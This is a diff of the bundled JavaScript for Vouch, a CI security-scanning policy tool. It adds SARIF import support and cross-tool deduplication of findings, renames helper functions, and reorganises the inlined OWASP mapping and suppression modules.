+            ? [createSarifImportAdapter({ patterns: options.sarifPatterns })]
+            : []),
     ];
 }
 
 ;// CONCATENATED MODULE: ./src/policy/baseline.ts
 
-function isRecord(value) {
+function baseline_isRecord(value) {
     return value !== null && typeof value === 'object' && !Array.isArray(value);
 }
 function baseline_list(value) {
@@ -40559,19 +48343,19 @@ function parseBaseline(bytes, label) {
             cause,
         });
     }
-    if (!isRecord(data) || !Array.isArray(data.runs)) {
+    if (!baseline_isRecord(data) || !Array.isArray(data.runs)) {
         throw new errors_ConfigError('INVALID_POLICY', `baseline ${label}: not a SARIF log (no runs[])`);
     }
     const fingerprints = new Set();
     const ruleLineHashes = new Set();
     for (const run of baseline_list(data.runs)) {
-        for (const result of isRecord(run) ? baseline_list(run.results) : []) {
-            if (!isRecord(result))
+        for (const result of baseline_isRecord(run) ? baseline_list(run.results) : []) {
+            if (!baseline_isRecord(result))
                 continue;
-            const vouch = isRecord(result.properties) ? result.properties['vouch/fingerprint'] : undefined;
+            const vouch = baseline_isRecord(result.properties) ? result.properties['vouch/fingerprint'] : undefined;
             if (typeof vouch === 'string')
                 fingerprints.add(vouch);
-            const hash = isRecord(result.partialFingerprints)
+            const hash = baseline_isRecord(result.partialFingerprints)
                 ? result.partialFingerprints.primaryLocationLineHash
                 : undefined;
             if (typeof result.ruleId === 'string' && typeof hash === 'string')
@@ -40583,13 +48367,13 @@ function parseBaseline(bytes, label) {
 
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(7598);
-// EXTERNAL MODULE: ../../work/main/node_modules/ajv/dist/2020.js
-var _2020 = __nccwpck_require__(8514);
-// EXTERNAL MODULE: ../../work/main/node_modules/ajv-formats/dist/index.js
-var ajv_formats_dist = __nccwpck_require__(5615);
-var dist_default = /*#__PURE__*/__nccwpck_require__.n(ajv_formats_dist);
+// EXTERNAL MODULE: ./node_modules/ajv/dist/2020.js
+var _2020 = __nccwpck_require__(2210);
+// EXTERNAL MODULE: ./node_modules/ajv-formats/dist/index.js
+var ajv_formats_dist = __nccwpck_require__(2815);
+var ajv_formats_dist_default = /*#__PURE__*/__nccwpck_require__.n(ajv_formats_dist);
 ;// CONCATENATED MODULE: ./data/schemas/policy.schema.json
-const policy_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://vouch.dev/schemas/policy-v1.json","title":"Vouch policy","description":"What Vouch runs and what blocks a build. Everything is reported; only what the policy names blocks.","type":"object","additionalProperties":false,"required":["version"],"properties":{"$schema":{"type":"string"},"version":{"const":1,"description":"Policy format version."},"description":{"type":"string"},"scanners":{"type":"object","description":"Per-scanner settings; scanners not listed run with their defaults.","propertyNames":{"enum":["gitleaks","builtin","semgrep","checkov","osv-scanner"]},"additionalProperties":{"$ref":"#/$defs/scanner"}},"block":{"type":"object","additionalProperties":false,"properties":{"severities":{"description":"Findings of these severities block the build.","type":"array","uniqueItems":true,"items":{"$ref":"#/$defs/severity"}}}},"on-scanner-error":{"description":"What a required scanner\'s failure does: fail (decision error, the default) or warn.","enum":["fail","warn"]},"unknown-severity":{"description":"Severity given to findings whose source has no score.","$ref":"#/$defs/severity"},"paths":{"type":"object","additionalProperties":false,"properties":{"exclude":{"description":"Globs (repository-relative) that no scanner looks at.","type":"array","items":{"type":"string","minLength":1}},"max-file-bytes":{"description":"Files larger than this are skipped and reported as skipped.","type":"integer","minimum":1}}},"thresholds":{"description":"Counts of findings allowed before the build is blocked. A finding is counted by a threshold when it matches every selector the threshold gives; when more findings match than `max`, every matching finding blocks.","type":"array","items":{"$ref":"#/$defs/threshold"}},"new-only":{"description":"Block only on findings a pull request introduces (on added or changed lines, or not in the baseline). auto: on pull requests; always: whenever a base or baseline is known; never: judge every finding.","enum":["auto","always","never"]},"baseline":{"description":"A SARIF file (repository-relative path) of known findings; findings whose fingerprint it holds are pre-existing: reported, not blocking.","type":"string","minLength":1},"suppressions":{"description":"Governed exceptions. Each needs a reason, an owner and an expiry date; an expired suppression stops suppressing and blocks the build itself.","type":"array","items":{"$ref":"#/$defs/suppression"}},"suppressions-file":{"description":"A separate YAML/JSON file (repository-relative) holding a `suppressions` list, for teams that review exceptions apart from the policy.","type":"string","minLength":1},"dependencies":{"type":"object","additionalProperties":false,"properties":{"min-age-days":{"description":"Packages first published fewer days ago than this are reported as new (high).","type":"integer","minimum":0,"maximum":3650},"offline":{"description":"Do not ask package registries; only the offline dependency checks run.","type":"boolean"},"npm-registry":{"type":"string","format":"uri"},"pypi-url":{"type":"string","format":"uri"}}},"osv":{"type":"object","additionalProperties":false,"properties":{"offline-db":{"description":"Directory of an OSV local database (offline mode); repository-relative or absolute.","type":"string","minLength":1}}}},"$defs":{"severity":{"enum":["critical","high","medium","low","info"]},"scanner":{"type":"object","additionalProperties":false,"properties":{"enabled":{"type":"boolean"},"required":{"type":"boolean","description":"A required scanner that fails makes the decision error."},"timeout-seconds":{"type":"integer","minimum":1,"maximum":21600}}},"threshold":{"type":"object","additionalProperties":false,"required":["max"],"minProperties":2,"properties":{"name":{"type":"string","description":"Shown in explanations."},"severity":{"$ref":"#/$defs/severity","description":"Only findings of exactly this severity."},"min-severity":{"$ref":"#/$defs/severity","description":"Only findings of this severity or worse."},"owasp":{"type":"string","pattern":"^A(0[1-9]|10):(2021|2025)$","description":"An OWASP Top 10 category, e.g. A05:2025 or A03:2021."},"asvs":{"type":"string","pattern":"^v5\\\\.0\\\\.0-[0-9]{1,2}(\\\\.[0-9]{1,2}){0,2}$","description":"An ASVS 5.0.0 chapter (v5.0.0-1), section (v5.0.0-1.2) or requirement (v5.0.0-1.2.4)."},"scanner":{"type":"string","minLength":1},"rule":{"type":"string","minLength":1,"description":"A rule id or glob, e.g. semgrep/python-* ."},"max":{"type":"integer","minimum":0}}},"suppression":{"type":"object","additionalProperties":false,"required":["reason","owner","expires"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]},{"required":["path"]}],"properties":{"rule":{"type":"string","minLength":1,"description":"Rule id or glob."},"fingerprint":{"type":"string","pattern":"^[0-9a-f]{32}$","description":"Vouch fingerprint of one finding (see the results file)."},"path":{"type":"string","minLength":1,"description":"Repository-relative path glob."},"reason":{"type":"string","minLength":10},"owner":{"type":"string","minLength":1},"expires":{"type":"string","format":"date","description":"Last day the suppression applies (YYYY-MM-DD, UTC)."}}}}}');
+const policy_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://vouch.dev/schemas/policy-v1.json","title":"Vouch policy","description":"What Vouch runs and what blocks a build. Everything is reported; only what the policy names blocks.","type":"object","additionalProperties":false,"required":["version"],"properties":{"$schema":{"type":"string"},"version":{"const":1,"description":"Policy format version."},"description":{"type":"string"},"scanners":{"type":"object","description":"Per-scanner settings; scanners not listed run with their defaults.","propertyNames":{"enum":["gitleaks","builtin","semgrep","checkov","osv-scanner","sarif"]},"additionalProperties":{"$ref":"#/$defs/scanner"}},"block":{"type":"object","additionalProperties":false,"properties":{"severities":{"description":"Findings of these severities block the build.","type":"array","uniqueItems":true,"items":{"$ref":"#/$defs/severity"}}}},"on-scanner-error":{"description":"What a required scanner\'s failure does: fail (decision error, the default) or warn.","enum":["fail","warn"]},"unknown-severity":{"description":"Severity given to findings whose source has no score.","$ref":"#/$defs/severity"},"paths":{"type":"object","additionalProperties":false,"properties":{"exclude":{"description":"Globs (repository-relative) that no scanner looks at.","type":"array","items":{"type":"string","minLength":1}},"max-file-bytes":{"description":"Files larger than this are skipped and reported as skipped.","type":"integer","minimum":1}}},"thresholds":{"description":"Counts of findings allowed before the build is blocked. A finding is counted by a threshold when it matches every selector the threshold gives; when more findings match than `max`, every matching finding blocks.","type":"array","items":{"$ref":"#/$defs/threshold"}},"new-only":{"description":"Block only on findings a pull request introduces (on added or changed lines, or not in the baseline). auto: on pull requests; always: whenever a base or baseline is known; never: judge every finding.","enum":["auto","always","never"]},"baseline":{"description":"A SARIF file (repository-relative path) of known findings; findings whose fingerprint it holds are pre-existing: reported, not blocking.","type":"string","minLength":1},"suppressions":{"description":"Governed exceptions. Each needs a reason, an owner and an expiry date; an expired suppression stops suppressing and blocks the build itself.","type":"array","items":{"$ref":"#/$defs/suppression"}},"suppressions-file":{"description":"A separate YAML/JSON file (repository-relative) holding a `suppressions` list, for teams that review exceptions apart from the policy.","type":"string","minLength":1},"dependencies":{"type":"object","additionalProperties":false,"properties":{"min-age-days":{"description":"Packages first published fewer days ago than this are reported as new (high).","type":"integer","minimum":0,"maximum":3650},"offline":{"description":"Do not ask package registries; only the offline dependency checks run.","type":"boolean"},"npm-registry":{"type":"string","format":"uri"},"pypi-url":{"type":"string","format":"uri"}}},"osv":{"type":"object","additionalProperties":false,"properties":{"offline-db":{"description":"Directory of an OSV local database (offline mode); repository-relative or absolute.","type":"string","minLength":1}}}},"$defs":{"severity":{"enum":["critical","high","medium","low","info"]},"scanner":{"type":"object","additionalProperties":false,"properties":{"enabled":{"type":"boolean"},"required":{"type":"boolean","description":"A required scanner that fails makes the decision error."},"timeout-seconds":{"type":"integer","minimum":1,"maximum":21600}}},"threshold":{"type":"object","additionalProperties":false,"required":["max"],"minProperties":2,"properties":{"name":{"type":"string","description":"Shown in explanations."},"severity":{"$ref":"#/$defs/severity","description":"Only findings of exactly this severity."},"min-severity":{"$ref":"#/$defs/severity","description":"Only findings of this severity or worse."},"owasp":{"type":"string","pattern":"^A(0[1-9]|10):(2021|2025)$","description":"An OWASP Top 10 category, e.g. A05:2025 or A03:2021."},"asvs":{"type":"string","pattern":"^v5\\\\.0\\\\.0-[0-9]{1,2}(\\\\.[0-9]{1,2}){0,2}$","description":"An ASVS 5.0.0 chapter (v5.0.0-1), section (v5.0.0-1.2) or requirement (v5.0.0-1.2.4)."},"scanner":{"type":"string","minLength":1},"rule":{"type":"string","minLength":1,"description":"A rule id or glob, e.g. semgrep/python-* ."},"max":{"type":"integer","minimum":0}}},"suppression":{"type":"object","additionalProperties":false,"required":["reason","owner","expires"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]},{"required":["path"]}],"properties":{"rule":{"type":"string","minLength":1,"description":"Rule id or glob."},"fingerprint":{"type":"string","pattern":"^[0-9a-f]{32}$","description":"Vouch fingerprint of one finding (see the results file)."},"path":{"type":"string","minLength":1,"description":"Repository-relative path glob."},"reason":{"type":"string","minLength":10},"owner":{"type":"string","minLength":1},"expires":{"type":"string","format":"date","description":"Last day the suppression applies (YYYY-MM-DD, UTC)."}}}}}');
 ;// CONCATENATED MODULE: ./data/schemas/suppressions.schema.json
 const suppressions_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://vouch.dev/schemas/suppressions-v1.json","title":"Vouch suppressions","description":"Governed exceptions kept apart from the policy: each with a reason, an owner and an expiry date.","type":"object","additionalProperties":false,"required":["suppressions"],"properties":{"$schema":{"type":"string"},"suppressions":{"type":"array","items":{"$ref":"policy-v1.json#/$defs/suppression"}}}}');
 ;// CONCATENATED MODULE: ./src/policy/validate.ts
@@ -40601,7 +48385,7 @@ const suppressions_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":
 // verbose: parentSchema lets messages list the allowed values. strictRequired is off because the
 // suppression's anyOf names properties declared beside it, which is valid JSON Schema.
 const ajv = new _2020.Ajv2020({ allErrors: true, strict: true, strictRequired: false, verbose: true });
-dist_default()["default"](ajv, ['date', 'uri']);
+ajv_formats_dist_default()["default"](ajv, ['date', 'uri']);
 const validators = { policy: ajv.compile(policy_schema_namespaceObject), suppressions: ajv.compile(suppressions_schema_namespaceObject) };
 function validatePolicyDocument(data, document, lineCounter, kind = 'policy') {
     const validate = validators[kind];
@@ -40612,8 +48396,8 @@ function validatePolicyDocument(data, document, lineCounter, kind = 'policy') {
     const errors = (validate.errors ?? []).filter((error) => !error.schemaPath.includes('/propertyNames/') && !error.schemaPath.includes('/anyOf/'));
     return errors.map((error) => ({
         pointer: pointerOf(error),
-        line: lineOf(document, lineCounter, pointerOf(error)),
-        message: describe(error, data),
+        line: validate_lineOf(document, lineCounter, pointerOf(error)),
+        message: validate_describe(error, data),
     }));
 }
 function pointerOf(error) {
@@ -40630,7 +48414,7 @@ function pointerOf(error) {
 function escapePointer(segment) {
     return segment.replaceAll('~', '~0').replaceAll('/', '~1');
 }
-function describe(error, data) {
+function validate_describe(error, data) {
     const found = valueAt(data, error.instancePath);
     switch (error.keyword) {
         case 'additionalProperties':
@@ -40669,7 +48453,7 @@ function valueAt(data, pointer) {
     return current;
 }
 /** The 1-based line of the node at the pointer, or of its key when the pointer names a key. */
-function lineOf(document, lineCounter, pointer) {
+function validate_lineOf(document, lineCounter, pointer) {
     const path = segments(pointer);
     const parent = path.length > 0 ? document.getIn(path.slice(0, -1), true) : undefined;
     const last = path[path.length - 1];
@@ -40741,7 +48525,7 @@ function threshold(doc, index, context) {
         scanner: doc.scanner,
         rule: doc.rule,
         max: doc.max,
-        source: { file: context.label, line: lineOf(context.document, context.lines, pointer) },
+        source: { file: context.label, line: validate_lineOf(context.document, context.lines, pointer) },
     };
 }
 function buildSuppressions(docs, pointer, context) {
@@ -40752,7 +48536,7 @@ function buildSuppressions(docs, pointer, context) {
         reason: doc.reason,
         owner: doc.owner,
         expires: doc.expires,
-        source: { file: context.label, line: lineOf(context.document, context.lines, `${pointer}/${index}`) },
+        source: { file: context.label, line: validate_lineOf(context.document, context.lines, `${pointer}/${index}`) },
     }));
 }
 
@@ -40998,7 +48782,7 @@ function addedLines(diff) {
 function newSidePath(raw) {
     if (raw === '/dev/null')
         return undefined;
-    const path = raw.startsWith('"') ? unquote(raw) : raw.replace(/\t$/, '');
+    const path = raw.startsWith('"') ? diff_unquote(raw) : raw.replace(/\t$/, '');
     return path.startsWith('b/') ? path.slice(2) : path;
 }
 const ESCAPES = {
@@ -41013,7 +48797,7 @@ const ESCAPES = {
     v: '\v',
 };
 /** Git's C-style quoting of unusual path names, with octal escapes for raw bytes (UTF-8). */
-function unquote(quoted) {
+function diff_unquote(quoted) {
     const body = quoted.slice(1, quoted.lastIndexOf('"'));
     const bytes = [];
     for (let i = 0; i < body.length; i += 1) {
@@ -41251,6 +49035,56 @@ async function ensureTool(id, options) {
     return { id, path, version, source: 'installed' };
 }
 
+;// CONCATENATED MODULE: ./src/findings/dedupe.ts
+
+function lines(finding) {
+    const start = finding.location.region?.startLine ?? 1;
+    return [start, Math.max(start, finding.location.region?.endLine ?? start)];
+}
+/** Same file, overlapping lines, a CWE in common, different tools: the same problem seen twice. */
+function sameProblem(a, b) {
+    if (a.tool === b.tool || a.location.path !== b.location.path)
+        return false;
+    const [aStart, aEnd] = lines(a);
+    const [bStart, bEnd] = lines(b);
+    if (aStart > bEnd || bStart > aEnd)
+        return false;
+    return a.cwe.some((cwe) => b.cwe.includes(cwe));
+}
+/** The finding that stays: most severe, then the more precise location, then the first reported. */
+function better(a, b) {
+    const bySeverity = severityRank(a.severity) - severityRank(b.severity);
+    if (bySeverity !== 0)
+        return bySeverity < 0;
+    return a.location.region?.startColumn !== undefined && b.location.region?.startColumn === undefined;
+}
+/** Merges what several tools reported about one problem into one finding listing every tool that saw it. */
+function dedupeAcrossTools(findings) {
+    const groups = [];
+    for (const finding of findings) {
+        const group = groups.find((members) => members.some((member) => sameProblem(member, finding)));
+        if (group)
+            group.push(finding);
+        else
+            groups.push([finding]);
+    }
+    const replacedBy = new Map();
+    const result = [];
+    for (const group of groups) {
+        const keeper = group.reduce((best, candidate) => (better(candidate, best) ? candidate : best));
+        const others = [
+            ...new Set(group.filter((f) => f !== keeper).flatMap((f) => [f.tool, ...f.alsoReportedBy])),
+        ];
+        const merged = others.length === 0
+            ? keeper
+            : { ...keeper, alsoReportedBy: [...new Set([...keeper.alsoReportedBy, ...others])].sort() };
+        for (const member of group)
+            replacedBy.set(member, merged);
+        result.push(merged);
+    }
+    return { findings: result, replacedBy };
+}
+
 ;// CONCATENATED MODULE: ./src/findings/line-hash.ts
 /**
  * GitHub's `primaryLocationLineHash`, computed exactly as its uploader does
@@ -41396,167 +49230,11 @@ function lineHashAt(hashes, line) {
     return hashes[effective - 1];
 }
 
-;// CONCATENATED MODULE: ./data/mappings/owasp-top10-cwe.json
-const owasp_top10_cwe_namespaceObject = /*#__PURE__*/JSON.parse('{"2021":{"A01:2021":{"title":"Broken Access Control","cwes":[22,23,35,59,200,201,219,264,275,276,284,285,352,359,377,402,425,441,497,538,540,548,552,566,601,639,651,668,706,862,863,913,922,1275]},"A02:2021":{"title":"Cryptographic Failures","cwes":[259,261,296,310,319,321,322,323,324,325,326,327,328,329,330,331,335,336,337,338,340,347,523,720,757,759,760,780,818,916]},"A03:2021":{"title":"Injection","cwes":[20,74,75,77,78,79,80,83,87,88,89,90,91,93,94,95,96,97,98,99,100,113,116,138,184,470,471,564,610,643,644,652,917]},"A04:2021":{"title":"Insecure Design","cwes":[73,183,209,213,235,256,257,266,269,280,311,312,313,316,419,430,434,444,451,472,501,522,525,539,579,598,602,642,646,650,653,656,657,799,807,840,841,927,1021,1173]},"A05:2021":{"title":"Security Misconfiguration","cwes":[2,11,13,15,16,260,315,520,526,537,541,547,611,614,756,776,942,1004,1032,1174]},"A06:2021":{"title":"Vulnerable and Outdated Components","cwes":[937,1035,1104]},"A07:2021":{"title":"Identification and Authentication Failures","cwes":[255,259,287,288,290,294,295,297,300,302,304,306,307,346,384,521,613,620,640,798,940,1216]},"A08:2021":{"title":"Software and Data Integrity Failures","cwes":[345,353,426,494,502,565,784,829,830,915]},"A09:2021":{"title":"Security Logging and Monitoring Failures","cwes":[117,223,532,778]},"A10:2021":{"title":"Server-Side Request Forgery (SSRF)","cwes":[918]}},"2025":{"A01:2025":{"title":"Broken Access Control","cwes":[22,23,36,59,61,65,200,201,219,276,281,282,283,284,285,352,359,377,379,402,424,425,441,497,538,540,548,552,566,601,615,639,668,732,749,862,863,918,922,1275]},"A02:2025":{"title":"Security Misconfiguration","cwes":[5,11,13,15,16,260,315,489,526,547,611,614,776,942,1004,1174]},"A03:2025":{"title":"Software Supply Chain Failures","cwes":[447,1035,1104,1329,1357,1395]},"A04:2025":{"title":"Cryptographic Failures","cwes":[261,296,319,320,321,322,323,324,325,326,327,328,329,330,331,332,334,335,336,337,338,340,342,347,523,757,759,760,780,916,1240,1241]},"A05:2025":{"title":"Injection","cwes":[20,74,76,77,78,79,80,83,86,88,89,90,91,93,94,95,96,97,98,99,103,104,112,113,114,115,116,129,159,470,493,500,564,610,643,644,917]},"A06:2025":{"title":"Insecure Design","cwes":[73,183,256,266,269,286,311,312,313,316,362,382,419,434,436,444,451,454,472,501,522,525,539,598,602,628,642,646,653,656,657,676,693,799,807,841,1021,1022,1125]},"A07:2025":{"title":"Authentication Failures","cwes":[258,259,287,288,289,290,291,293,294,295,297,298,299,300,302,303,304,305,306,307,308,309,346,350,384,521,613,620,640,798,940,941,1390,1391,1392,1393]},"A08:2025":{"title":"Software or Data Integrity Failures","cwes":[345,353,426,427,494,502,506,509,565,784,829,830,915,926]},"A09:2025":{"title":"Security Logging and Alerting Failures","cwes":[117,221,223,532,778]},"A10:2025":{"title":"Mishandling of Exceptional Conditions","cwes":[209,215,234,235,248,252,274,280,369,390,391,394,396,397,460,476,478,484,550,636,703,754,755,756]}},"source":"OWASP Top 10 2021 and 2025, \'List of Mapped CWEs\' of each category (github.com/OWASP/Top10, docs/en/A0x_*.md)","license":"CC BY-SA 4.0 (OWASP Foundation); keep this attribution with any data derived from it"}');
-;// CONCATENATED MODULE: ./src/findings/taxonomy.ts
-
-function indexEdition(edition, data) {
-    const byCwe = new Map();
-    for (const [id, category] of Object.entries(data)) {
-        for (const cwe of category.cwes) {
-            const list = byCwe.get(cwe) ?? [];
-            list.push({ id, title: category.title, edition });
-            byCwe.set(cwe, list);
-        }
-    }
-    return byCwe;
-}
-const BY_EDITION = {
-    '2021': indexEdition('2021', owasp_top10_cwe_namespaceObject[2021]),
-    '2025': indexEdition('2025', owasp_top10_cwe_namespaceObject[2025]),
-};
-/** Official OWASP Top 10 categories whose mapped-CWE list holds any of the given `CWE-<n>` ids. */
-function owaspCategories(cweIds, edition) {
-    const found = new Map();
-    for (const cwe of cweIds) {
-        const match = /^CWE-(\d+)$/.exec(cwe);
-        if (!match?.[1])
-            continue;
-        for (const category of BY_EDITION[edition].get(Number(match[1])) ?? [])
-            found.set(category.id, category);
-    }
-    return [...found.values()].sort((a, b) => a.id.localeCompare(b.id));
-}
-const OWASP_ATTRIBUTION = owasp_top10_cwe_namespaceObject.license;
-/** Category id → title for one edition, for tables. */
-function owaspCategoryTitles(edition) {
-    return new Map(Object.entries(owasp_top10_cwe_namespaceObject[edition]).map(([id, category]) => [id, category.title]));
-}
-
-;// CONCATENATED MODULE: ./src/findings/normalize.ts
-
-
-
-
-class UnknownRuleError extends Error {
-    ruleId;
-    constructor(ruleId) {
-        super(`result for rule ${ruleId}, which the scanner did not declare`);
-        this.ruleId = ruleId;
-    }
-}
-/** Detections of one scanner → Findings: rule metadata, severity, taxonomy, GitHub line hash, fingerprint. */
-async function normalizeDetections(input) {
-    const rules = new Map(input.rules.map((rule) => [rule.id, rule]));
-    const hashCache = new Map();
-    const findings = [];
-    for (const detection of input.detections) {
-        const rule = rules.get(detection.ruleId);
-        if (!rule)
-            throw new UnknownRuleError(detection.ruleId);
-        const lineHash = await lineHashFor(detection, hashCache, input.readText);
-        findings.push(toFinding(input.tool, rule, detection, lineHash));
-    }
-    return findings;
-}
-async function lineHashFor(detection, cache, readText) {
-    const path = detection.location.path;
-    if (!cache.has(path)) {
-        const text = await readText(path);
-        cache.set(path, text === undefined ? undefined : lineHashes(text));
-    }
-    // A result for the whole file is fingerprinted on line 1, as GitHub's uploader does.
-    const line = detection.location.region?.startLine ?? 1;
-    return cache.get(path)?.[line - 1];
-}
-function toFinding(tool, rule, detection, lineHash) {
-    const severity = detection.severity ??
-        (detection.securitySeverity ? severityFromScore(detection.securitySeverity) : rule.severity);
-    const securitySeverity = detection.securitySeverity ?? (detection.severity ? defaultScore(severity) : rule.securitySeverity);
-    return {
-        tool,
-        ruleId: rule.id,
-        message: detection.message,
-        severity,
-        securitySeverity,
-        location: detection.location,
-        cwe: rule.cwe,
-        owasp2021: owaspCategories(rule.cwe, '2021').map((c) => c.id),
-        owasp2025: owaspCategories(rule.cwe, '2025').map((c) => c.id),
-        asvs: rule.asvs,
-        fingerprint: fingerprint(rule.id, detection, lineHash),
-        lineHash,
-        evidence: detection.evidence,
-        alsoReportedBy: [],
-    };
-}
-/** Stable across line moves (uses the line's content hash), distinct per rule and file. */
-function fingerprint(ruleId, detection, lineHash) {
-    const anchor = lineHash ?? `line:${detection.location.region?.startLine ?? 0}`;
-    return (0,external_node_crypto_.createHash)('sha256')
-        .update(`${ruleId}\0${detection.location.path}\0${anchor}`)
-        .digest('hex')
-        .slice(0, 32);
-}
-
-;// CONCATENATED MODULE: ./src/policy/expired.ts
-
-const POLICY_TOOL = 'vouch-policy';
-const EXPIRED_SUPPRESSION_RULE = {
-    id: 'vouch-policy/expired-suppression',
-    name: 'expired-suppression',
-    shortDescription: 'Expired suppression',
-    fullDescription: 'A suppression passed its expiry date. It no longer hides the findings it matched, and it blocks the build until it is renewed with a fresh review or removed.',
-    help: [
-        'Every Vouch suppression carries a reason, an owner and an expiry date so that exceptions are reviewed.',
-        '',
-        '- If the risk is still accepted, have the owner review it and set a new `expires` date.',
-        '- If the finding was fixed, delete the suppression.',
-    ].join('\n'),
-    severity: 'high',
-    securitySeverity: 7.0,
-    precision: 'very-high',
-    cwe: [],
-    asvs: [],
-    tags: ['policy'],
-};
-function isExpired(suppression, today) {
-    return suppression.expires < today;
-}
-/** An expired suppression is reported where it is written, as a finding of its own. */
-function expiredSuppressionFinding(suppression) {
-    const what = [
-        suppression.rule && `rule ${suppression.rule}`,
-        suppression.fingerprint && `fingerprint ${suppression.fingerprint}`,
-        suppression.path && `path ${suppression.path}`,
-    ]
-        .filter(Boolean)
-        .join(', ');
-    const line = suppression.source.line ?? 1;
-    return {
-        tool: POLICY_TOOL,
-        ruleId: EXPIRED_SUPPRESSION_RULE.id,
-        message: `Suppression of ${what} (owner ${suppression.owner}) expired on ${suppression.expires}; it no longer suppresses and blocks until renewed or removed.`,
-        severity: EXPIRED_SUPPRESSION_RULE.severity,
-        securitySeverity: EXPIRED_SUPPRESSION_RULE.securitySeverity,
-        location: { path: suppression.source.file, region: { startLine: line } },
-        cwe: [],
-        owasp2021: [],
-        owasp2025: [],
-        asvs: [],
-        fingerprint: (0,external_node_crypto_.createHash)('sha256')
-            .update(`expired\0${suppression.source.file}\0${line}\0${suppression.expires}`)
-            .digest('hex')
-            .slice(0, 32),
-        alsoReportedBy: [],
-    };
-}
-
-;// CONCATENATED MODULE: ../../work/main/node_modules/balanced-match/dist/esm/index.js
+;// CONCATENATED MODULE: ./node_modules/balanced-match/dist/esm/index.js
 const balanced = (a, b, str) => {
     const ma = a instanceof RegExp ? maybeMatch(a, str) : a;
     const mb = b instanceof RegExp ? maybeMatch(b, str) : b;
-    const r = ma !== null && mb != null && range(ma, mb, str);
+    const r = ma !== null && mb != null && esm_range(ma, mb, str);
     return (r && {
         start: r[0],
         end: r[1],
@@ -41569,7 +49247,7 @@ const maybeMatch = (reg, str) => {
     const m = str.match(reg);
     return m ? m[0] : null;
 };
-const range = (a, b, str) => {
+const esm_range = (a, b, str) => {
     let begs, beg, left, right = undefined, result;
     let ai = str.indexOf(a);
     let bi = str.indexOf(b, ai + 1);
@@ -41607,7 +49285,7 @@ const range = (a, b, str) => {
     return result;
 };
 //# sourceMappingURL=index.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/brace-expansion/dist/esm/index.js
+;// CONCATENATED MODULE: ./node_modules/brace-expansion/dist/esm/index.js
 
 const escSlash = '\0SLASH' + Math.random().toFixed(16) + '\0';
 const escOpen = '\0OPEN' + Math.random().toFixed(16) + '\0';
@@ -41705,7 +49383,7 @@ function balancedWithBudget(str, masked, budget) {
     if (budget.remaining < 0) {
         return undefined;
     }
-    const r = range('{', '}', masked);
+    const r = esm_range('{', '}', masked);
     const unmatched = r !== undefined && masked.indexOf('{') < r[0];
     budget.remaining -= r && !unmatched ? r[1] + 1 : str.length;
     if (!r || budget.remaining < 0) {
@@ -41827,7 +49505,7 @@ function parseCommaParts(str, budget) {
 function bound(value, fallback) {
     return value === undefined || isNaN(value) ? fallback : value;
 }
-function expand(str, options = {}) {
+function esm_expand(str, options = {}) {
     if (!str) {
         return [];
     }
@@ -42123,7 +49801,7 @@ function expand_(str, max, maxLength, maxDepth, depth, maxRewrites, budget, isTo
     return acc;
 }
 //# sourceMappingURL=index.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@isaacs/nonrecursive-glob-match/dist/esm/numeric-range.js
+;// CONCATENATED MODULE: ./node_modules/@isaacs/nonrecursive-glob-match/dist/esm/numeric-range.js
 // One digit, or a class of digits from a to b.
 const digit = (a, b) => a === b ?
     { t: 'lit', ch: String(a) }
@@ -42196,7 +49874,7 @@ const numericRange = (loStr, hiStr) => {
     return out;
 };
 //# sourceMappingURL=numeric-range.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@isaacs/nonrecursive-glob-match/dist/esm/parse-class.js
+;// CONCATENATED MODULE: ./node_modules/@isaacs/nonrecursive-glob-match/dist/esm/parse-class.js
 // translate the various posix character classes into unicode properties
 // this works across all unicode locales
 // { <posix class>: [<translation>, negated]
@@ -42335,7 +50013,7 @@ const parseClass = (glob, position, nocase = false, form) => {
     return [new RegExp(comb, nocase ? 'iu' : 'u'), endPos - pos];
 };
 //# sourceMappingURL=parse-class.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@isaacs/nonrecursive-glob-match/dist/esm/index.js
+;// CONCATENATED MODULE: ./node_modules/@isaacs/nonrecursive-glob-match/dist/esm/index.js
 
 
 // the end of the pattern, or of a negated sub-pattern
@@ -42468,7 +50146,7 @@ const build = (toks, pairs, start, end, top) => {
 // and the combining marks after it compose (or decompose) together.
 // Syntax is already parsed, so a char that normalizes to a syntax
 // char (such as full-width `＊` in NFKC) stays a literal.
-const normalize = (items, form) => {
+const esm_normalize = (items, form) => {
     const out = [];
     let run = '';
     const flush = () => {
@@ -42483,7 +50161,7 @@ const normalize = (items, form) => {
         }
         flush();
         out.push(it.t === 'ext' ?
-            { ...it, alts: it.alts.map(a => normalize(a, form)) }
+            { ...it, alts: it.alts.map(a => esm_normalize(a, form)) }
             : it);
     }
     flush();
@@ -42959,7 +50637,7 @@ class Matcher {
         const toks = tokenize(pattern, nocase, noext || literal, this.#form, options.rangeMark);
         let [items] = build(toks, pair(toks), 0, toks.length, true);
         if (this.#form)
-            items = normalize(items, this.#form);
+            items = esm_normalize(items, this.#form);
         const [start, size] = compile(items, nocase);
         this.#start = start;
         this.#size = size;
@@ -43110,7 +50788,7 @@ class Matcher {
     }
 }
 //# sourceMappingURL=index.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/minimatch/dist/esm/assert-valid-pattern.js
+;// CONCATENATED MODULE: ./node_modules/minimatch/dist/esm/assert-valid-pattern.js
 const MAX_PATTERN_LENGTH = 1024 * 64;
 const assertValidPattern = (pattern) => {
     if (typeof pattern !== 'string') {
@@ -43121,7 +50799,7 @@ const assertValidPattern = (pattern) => {
     }
 };
 //# sourceMappingURL=assert-valid-pattern.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/minimatch/dist/esm/escape.js
+;// CONCATENATED MODULE: ./node_modules/minimatch/dist/esm/escape.js
 /**
  * Escape all magic characters in a glob pattern.
  *
